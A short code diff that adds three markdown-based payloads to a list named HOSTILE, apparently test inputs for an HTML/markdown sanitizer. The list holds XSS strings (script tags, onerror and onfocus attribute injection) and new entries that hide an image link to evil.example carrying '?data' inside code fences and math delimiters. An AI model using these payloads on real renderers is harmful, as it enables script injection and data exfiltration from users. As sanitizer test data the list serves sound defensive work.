@@ -47,6 +47,9 @@ HOSTILE = [
     "\x00<\x00script>window.hacked=1</script>",
     '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
     "&lt;script&gt;window.hacked=1&lt;/script&gt;",
+    "$\n```\n$\n![x](https://evil.example/?data)\n```\n",
+    "- ```\n  $\n- ```\n$ ![x](https://evil.example/?data)\n```",
+    "`$$` and\n\n```\n$$\n![x](https://evil.example/?data)\n```",
     "' onmouseover='window.hacked=1",
     '" autofocus onfocus="window.hacked=1',
 ]
